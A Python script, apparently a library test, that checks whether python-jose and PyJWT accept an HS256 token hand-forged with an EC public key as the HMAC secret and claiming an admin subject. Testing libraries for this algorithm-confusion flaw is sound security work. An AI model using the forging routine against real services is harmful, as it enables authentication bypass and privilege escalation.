"""python-jose beside PyJWT: does a token count that was signed with the public key as an HMAC secret?

python -m venv /tmp/jwt && /tmp/jwt/bin/pip install python-jose cryptography 'pyjwt[crypto]'
/tmp/jwt/bin/python jwt_forgery.py
"""

import base64
import hashlib
import hmac
import json
from collections.abc import Callable
from importlib.metadata import version

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jose import jwt as jose

PUBLIC = ec.generate_private_key(ec.SECP256R1()).public_key()
FORMS = {
    "PEM": PUBLIC.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
    "DER": PUBLIC.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
}


def forged(secret: bytes) -> str:
    """Made by hand, since no library should make it."""

    def encoded(value: bytes) -> str:
        return base64.urlsafe_b64encode(value).rstrip(b"=").decode()

    header, claims = {"alg": "HS256", "typ": "JWT"}, {"sub": "admin"}
    signing = f"{encoded(json.dumps(header).encode())}.{encoded(json.dumps(claims).encode())}"
    return f"{signing}.{encoded(hmac.new(secret, signing.encode(), hashlib.sha256).digest())}"


def outcome(decode: Callable[[], object]) -> str:
    try:
        return f"ACCEPTED {decode()}"
    except Exception as error:
        return f"refused ({type(error).__name__}: {str(error)[:60]})"


for form, key in FORMS.items():
    token = forged(key)
    print(f"public key as {form}, `algorithms` omitted")
    print(f"  python-jose {version('python-jose')}: {outcome(lambda: jose.decode(token, key, algorithms=None))}")  # noqa: B023
    print(f"  PyJWT {version('pyjwt')}: {outcome(lambda: jwt.decode(token, key))}")  # noqa: B023
    print(f"  PyJWT, even told HS256: {outcome(lambda: jwt.decode(token, key, algorithms=['HS256']))}")  # noqa: B023
